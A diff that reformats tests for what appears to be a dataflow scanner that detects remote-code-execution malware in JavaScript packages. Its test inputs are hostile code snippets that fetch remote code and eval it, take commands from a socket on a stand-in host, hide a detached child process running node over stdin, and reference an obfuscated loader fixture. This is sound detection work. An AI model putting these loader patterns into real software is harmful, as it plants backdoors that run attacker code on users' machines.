@@ -51,30 +51,56 @@ describe('dataflow', () => {
 
   it('follows .then callbacks and promise executors', () => {
     assert.deepEqual(kinds('fetch(u).then(r => r.text()).then(t => eval(t));'), ['network']);
-    assert.deepEqual(kinds('const https = require("https"); const p = new Promise(res => https.get(u, r => { let b = ""; r.on("data", c => b += c); r.on("end", () => res(b)); })); p.then(code => new Function(code)());'), ['network']);
+    assert.deepEqual(
+      kinds(
+        'const https = require("https"); const p = new Promise(res => https.get(u, r => { let b = ""; r.on("data", c => b += c); r.on("end", () => res(b)); })); p.then(code => new Function(code)());',
+      ),
+      ['network'],
+    );
   });
 
   it('follows function parameters and returns', () => {
-    assert.deepEqual(kinds('function run(c) { eval(c); } async function load() { return (await fetch(u)).text(); } load().then(run);'), ['network']);
-    assert.deepEqual(kinds('function get() { return fetch(u).then(r => r.json()); } async function main() { const j = await get(); eval(j.code); }'), ['network']);
+    assert.deepEqual(kinds('function run(c) { eval(c); } async function load() { return (await fetch(u)).text(); } load().then(run);'), [
+      'network',
+    ]);
+    assert.deepEqual(
+      kinds('function get() { return fetch(u).then(r => r.json()); } async function main() { const j = await get(); eval(j.code); }'),
+      ['network'],
+    );
   });
 
   it('follows sockets and blockchain contracts', () => {
     assert.deepEqual(kinds('const ws = new WebSocket("wss://x.invalid"); ws.on("message", m => eval(m));'), ['network']);
-    assert.deepEqual(kinds('const io = require("socket.io-client"); const s = io("http://203.0.113.1:8087"); s.on("cmd", d => eval(d));'), ['network']);
-    assert.deepEqual(kinds('const { ethers } = require("ethers"); const c = new ethers.Contract(a, abi, new ethers.JsonRpcProvider(r)); c.getMemo().then(m => eval(m));'), ['rpc']);
+    assert.deepEqual(kinds('const io = require("socket.io-client"); const s = io("http://203.0.113.1:8087"); s.on("cmd", d => eval(d));'), [
+      'network',
+    ]);
+    assert.deepEqual(
+      kinds(
+        'const { ethers } = require("ethers"); const c = new ethers.Contract(a, abi, new ethers.JsonRpcProvider(r)); c.getMemo().then(m => eval(m));',
+      ),
+      ['rpc'],
+    );
   });
 
   it('keeps unrelated variables of other functions apart', () => {
-    assert.equal(facts('function a() { const data = fetch(u); return data; } function b(data) { eval(data); } b("1 + 1");').sinks[0]?.taint?.kinds.length ?? 0, 0);
+    assert.equal(
+      facts('function a() { const data = fetch(u); return data; } function b(data) { eval(data); } b("1 + 1");').sinks[0]?.taint?.kinds
+        .length ?? 0,
+      0,
+    );
   });
 
   it('carries decoded .env values to the fetch and records the chain', () => {
-    const f = facts('const axios = require("axios"); axios.get(atob(process.env.AUTH_API)).then(r => eval(r.data));', [['AUTH_API', 'aHR0cHM6Ly94LmludmFsaWQvYQ==']]);
+    const f = facts('const axios = require("axios"); axios.get(atob(process.env.AUTH_API)).then(r => eval(r.data));', [
+      ['AUTH_API', 'aHR0cHM6Ly94LmludmFsaWQvYQ=='],
+    ]);
     const s = f.sinks[0];
     assert.ok(s?.taint);
     assert.ok(s.taint.values.includes('https://x.invalid/a'));
-    assert.deepEqual(s.taint.steps.map(x => x.label), ['reads process.env.AUTH_API', 'decodes base64 with atob', 'fetches https://x.invalid/a with axios.get']);
+    assert.deepEqual(
+      s.taint.steps.map(x => x.label),
+      ['reads process.env.AUTH_API', 'decodes base64 with atob', 'fetches https://x.invalid/a with axios.get'],
+    );
   });
 
   it('reports env dumps and fingerprints sent in requests', () => {
@@ -83,8 +109,19 @@ describe('dataflow', () => {
   });
 
   it('records spawn options, unref and node over stdin', () => {
-    const f = facts('const cp = require("child_process"); const c = cp.spawn(process.execPath, ["-"], { detached: true, stdio: "ignore", windowsHide: true }); c.stdin.write(code); c.unref();');
-    assert.deepEqual(f.spawns[0] && { d: f.spawns[0].detached, s: f.spawns[0].stdioIgnore, w: f.spawns[0].windowsHide, u: f.spawns[0].unref, n: f.spawns[0].stdinNode }, { d: true, s: true, w: true, u: true, n: true });
+    const f = facts(
+      'const cp = require("child_process"); const c = cp.spawn(process.execPath, ["-"], { detached: true, stdio: "ignore", windowsHide: true }); c.stdin.write(code); c.unref();',
+    );
+    assert.deepEqual(
+      f.spawns[0] && {
+        d: f.spawns[0].detached,
+        s: f.spawns[0].stdioIgnore,
+        w: f.spawns[0].windowsHide,
+        u: f.spawns[0].unref,
+        n: f.spawns[0].stdinNode,
+      },
+      { d: true, s: true, w: true, u: true, n: true },
+    );
     assert.ok(f.sinks.some(s => s.kind === 'stdin-code'));
   });
 
@@ -97,7 +134,10 @@ describe('dataflow', () => {
 describe('obfuscator string arrays', () => {
   it('solves the rotation of a javascript-obfuscator string array without running its loop', async () => {
     const { readFileSync } = await import('node:fs');
-    const src = readFileSync(new URL('../../rules/code/remote-code-execution/fixtures/match/obfuscated-loader/lib/analytics.js', import.meta.url), 'utf8');
+    const src = readFileSync(
+      new URL('../../rules/code/remote-code-execution/fixtures/match/obfuscated-loader/lib/analytics.js', import.meta.url),
+      'utf8',
+    );
     const f = facts(src);
     assert.ok(f.requests.some(r => r.callee === 'axios.get' && r.url === 'https://cdn.example.invalid/p.js'));
     assert.ok(f.sinks.some(s => s.kind === 'function' && s.taint?.kinds.includes('network')));
